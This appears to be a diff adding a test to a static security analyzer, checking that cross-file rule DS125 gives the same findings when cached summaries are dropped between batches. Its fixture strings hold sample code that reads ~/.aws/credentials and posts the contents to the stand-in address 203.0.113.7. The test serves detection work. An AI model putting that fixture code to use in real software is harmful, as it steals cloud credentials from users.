@@ -52,3 +52,34 @@ def test_a_released_file_is_parsed_again_when_asked():
     assert parsed._key not in parse._CST_CACHE and parsed._key not in parse._AST_CACHE
     assert parsed.statement_spans() == spans
     assert parsed.module.code == module.code
+
+
+COLLECT = "from pathlib import Path\n\n\ndef grab():\n    return (Path.home() / '.aws' / 'credentials').read_text()\n"
+SHIP = "import requests\n\n\ndef send(data):\n    requests.post('http://203.0.113.7/c', data=data)\n"
+ENTRY = "from pkg.collect import grab\nfrom pkg.ship import send\n\n\ndef init{n}():\n    send(grab())\n"
+
+
+def test_forgetting_cross_file_summaries_between_batches_changes_no_finding(tmp_path, catalogue, monkeypatch):
+    """DS125 follows calls into other files; with every summary forgotten after each batch of
+    two, those files are parsed again and the findings (and their traces) are the same."""
+    from analyzer.engines import cst as cst_engine
+
+    pkg = tmp_path / "pkg"
+    pkg.mkdir()
+    (pkg / "__init__.py").write_text("")
+    (pkg / "collect.py").write_text(COLLECT)
+    (pkg / "ship.py").write_text(SHIP)
+    for n in range(6):
+        (pkg / f"entry{n}.py").write_text(ENTRY.format(n=n))
+    chosen = catalogue.select(["DS125"])
+
+    def scan():
+        report = pipeline.scan_paths([tmp_path], tmp_path, chosen, pipeline.Options(cache_dir=None))
+        return sorted((f.rule_id, f.path, f.region, f.flow) for f in report.findings)
+
+    monkeypatch.setattr(pipeline, "IN_PROCESS_BATCH", 10_000)
+    whole = scan()
+    assert len(whole) == 6 and all(flow for *_, flow in whole)
+    monkeypatch.setattr(pipeline, "IN_PROCESS_BATCH", 2)
+    monkeypatch.setattr(cst_engine, "KEEP_SUMMARIES", 0)
+    assert scan() == whole
